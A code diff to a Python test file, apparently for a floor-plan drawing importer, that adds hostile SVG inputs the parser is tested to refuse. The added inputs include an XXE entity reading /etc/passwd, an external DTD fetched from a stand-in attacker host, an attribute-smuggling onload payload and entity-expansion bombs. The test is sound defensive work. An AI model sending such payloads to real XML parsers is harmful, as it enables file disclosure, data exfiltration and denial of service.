@@ -18,7 +18,7 @@ from expo.floor.imports.laying import Laying
 from expo.floor.imports.laying import first_laying as first_laying_of
 from expo.floor.imports.opening import opened
 from expo.floor.imports.reading import read_floor
-from expo.floor.imports.shapes import NotAFloor, NothingInIt, ReadFile
+from expo.floor.imports.shapes import NotAFloor, NothingInIt, NotPlain, ReadFile
 from expo.floor.places.rules import Place
 from tests.make.floors import booth, box, feature, floor
 
@@ -192,6 +192,12 @@ async def test_a_drawing_of_autocad_has_blocks_attributes_and_millimetres_and_is
 HOSTILE = [
     b'<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
     b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
+    b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://attacker.example/x.dtd"> %x;]><svg xmlns="http://www.w3.org/2000/svg"/>',
+    b"<!DOCTYPE svg [<!ENTITY a 'x\" onload=\"alert(1)'>]><svg xmlns='http://www.w3.org/2000/svg' id=\"&a;\"/>",
+    b'<!DOCTYPE svg [<!ENTITY a "'
+    + b"a" * 900
+    + b'">]><svg xmlns="http://www.w3.org/2000/svg"><text>'
+    + b"&a;" * 9_000,
     b"<html><script>alert(1)</script></html>",
     b"\x00\x01\x02",
     b"<svg",
@@ -200,7 +206,8 @@ HOSTILE = [
 
 @pytest.mark.parametrize("content", HOSTILE)
 async def test_a_hostile_drawing_is_refused(content: bytes):
-    with pytest.raises(NotAFloor):
+    entangled = b"<!ENTITY" in content
+    with pytest.raises(NotPlain if entangled else NotAFloor):
         await opened("svg", content)
 
 
